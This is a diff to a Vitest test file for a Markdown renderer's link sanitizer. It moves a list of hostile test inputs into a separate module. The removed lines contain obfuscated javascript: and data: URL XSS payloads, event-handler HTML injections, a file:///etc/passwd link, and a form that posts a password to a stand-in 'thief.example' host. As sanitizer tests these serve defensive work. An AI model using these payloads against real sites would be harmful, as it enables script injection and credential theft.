@@ -4,54 +4,7 @@ import { describe, expect, it } from 'vitest';
 
 import { safeHref } from './links.ts';
 import { Markdown } from './markdown.tsx';
-
-const schemes = [
-  'javascript:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  ' javascript:alert(1)',
-  '\u0001javascript:alert(1)',
-  'java\tscript:alert(1)',
-  'java\nscript:alert(1)',
-  'javascript\u00AD:alert(1)',
-  '&#106;avascript:alert(1)',
-  '&#x6A;avascript&colon;alert(1)',
-  'javascript&#58;alert(1)',
-  'java&Tab;script:alert(1)',
-  '\\javascript:alert(1)',
-  'vbscript:msgbox(1)',
-  'data:text/html;base64,PHNjcmlwdD4=',
-  'data:text/html,<script>alert(1)</script>',
-  'data:image/svg+xml,<svg onload=alert(1)>',
-  'blob:https://example.com/1',
-  'file:///etc/passwd',
-  'ms-settings:privacy',
-  'view-source:https://example.com',
-];
-
-const elements = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<style>*{display:none}</style>',
-  '<form action=https://thief.example><input name=password></form>',
-  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
-  '<!-- --><b onclick=alert(1)>',
-  '<br onload=alert(1)>',
-];
-
-const contexts = [
-  (address: string) => `[link](${address})`,
-  (address: string) => `[link](<${address}>)`,
-  (address: string) => `![image](${address})`,
-  (address: string) => `<${address}>`,
-  (address: string) => `[link][label]\n\n[label]: ${address}`,
-  (address: string) => `[link][label]\n\n[label]: <${address}>`,
-  (address: string) => `![image][label]\n\n[label]: ${address}`,
-  (address: string) => `[link](${address} "${address}")`,
-  (address: string) => `[![image](${address})](${address})`,
-];
+import { contexts, elements, schemes } from './test/hostile.ts';
 
 const safeTags = new Set(
   (
